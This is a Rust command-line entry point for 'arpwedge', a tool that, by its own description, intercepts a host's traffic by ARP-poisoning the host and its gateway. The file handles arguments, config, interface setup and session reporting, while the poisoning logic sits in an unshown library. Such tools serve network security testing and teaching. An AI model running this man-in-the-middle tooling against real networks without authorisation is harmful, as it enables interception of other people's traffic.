use std::net::Ipv4Addr;
use std::path::PathBuf;
use std::process::ExitCode;
use std::sync::Arc;

use anyhow::{Context, Result};
use arpwedge::domain::StopReason;
use arpwedge::{Config, ConsoleReporter, LinkLayer, Overrides, PnetLink, Session};
use clap::Parser;
use tracing_subscriber::EnvFilter;

#[derive(Parser)]
#[command(name = "arpwedge")]
#[command(about = "Intercept a host's traffic by poisoning its and its gateway's ARP caches")]
#[command(version)]
struct Args {
    /// Network interface to operate on (e.g., eth0)
    #[arg(short, long)]
    interface: Option<String>,

    /// IPv4 address of the host to intercept
    #[arg(short, long)]
    target: Option<Ipv4Addr>,

    /// IPv4 address of the target's gateway
    #[arg(short, long)]
    gateway: Option<Ipv4Addr>,

    /// Number of intercepted frames to report before stopping [default: 1000]
    #[arg(short = 'c', long = "count")]
    packet_count: Option<u64>,

    /// Seconds between poisoning rounds [default: 1.5]
    #[arg(short = 'n', long = "interval")]
    poison_interval: Option<f64>,

    /// ARP requests sent per address before giving up [default: 3]
    #[arg(long)]
    resolve_attempts: Option<u32>,

    /// Seconds to wait for each ARP reply [default: 2]
    #[arg(long)]
    resolve_timeout: Option<f64>,

    /// Config file (key = value lines), else $ARPWEDGE_CONFIG, else /etc/arpwedge.conf
    #[arg(long)]
    config: Option<PathBuf>,

    /// Log level filter, overridden by RUST_LOG
    #[arg(long, default_value = "info")]
    log_level: String,

    /// Append frame sizes to each reported line
    #[arg(short, long)]
    verbose: bool,

    /// List usable interfaces and exit
    #[arg(long)]
    list_interfaces: bool,
}

impl Args {
    fn overrides(&self) -> Overrides {
        Overrides {
            interface: self.interface.clone(),
            target: self.target,
            gateway: self.gateway,
            packet_count: self.packet_count,
            poison_interval: self.poison_interval,
            resolve_attempts: self.resolve_attempts,
            resolve_timeout: self.resolve_timeout,
            verbose: self.verbose,
        }
    }
}

fn init_logging(level: &str) {
    let filter = EnvFilter::try_from_default_env()
        .or_else(|_| EnvFilter::try_new(level))
        .unwrap_or_else(|_| EnvFilter::new("info"));

    tracing_subscriber::fmt()
        .with_env_filter(filter)
        .with_target(false)
        .with_writer(std::io::stderr)
        .init();
}

/// Any run that reaches restoration counts as a controlled stop, even
/// one ended by a network failure.
fn run(args: &Args) -> Result<()> {
    if args.list_interfaces {
        for name in PnetLink::list_interfaces() {
            println!("{}", name);
        }
        return Ok(());
    }

    let config = Config::load(args.config.as_deref(), args.overrides())
        .context("Invalid configuration")?;

    let link = PnetLink::open(&config.interface)
        .with_context(|| format!("Cannot use interface '{}'", config.interface))?;
    tracing::info!(
        "Operating on {} ({} / {})",
        config.interface,
        link.protocol_address(),
        link.hardware_address()
    );

    let session = Session::new(Arc::new(link), config.session);

    let shutdown = session.shutdown_handle();
    ctrlc::set_handler(move || {
        shutdown.request(StopReason::Interrupted);
    })
    .context("Failed to install interrupt handler")?;

    let reporter = ConsoleReporter::new().with_verbose(config.verbose);
    let report = session
        .run(&reporter)
        .context("Address resolution failed")?;

    tracing::info!(
        "Captured {} frames, sent {} poisoning frames in {} rounds",
        report.frames_captured,
        report.poison.frames_sent,
        report.poison.rounds
    );

    Ok(())
}

fn main() -> ExitCode {
    let args = Args::parse();
    init_logging(&args.log_level);

    match run(&args) {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("error: {:#}", e);
            ExitCode::FAILURE
        }
    }
}
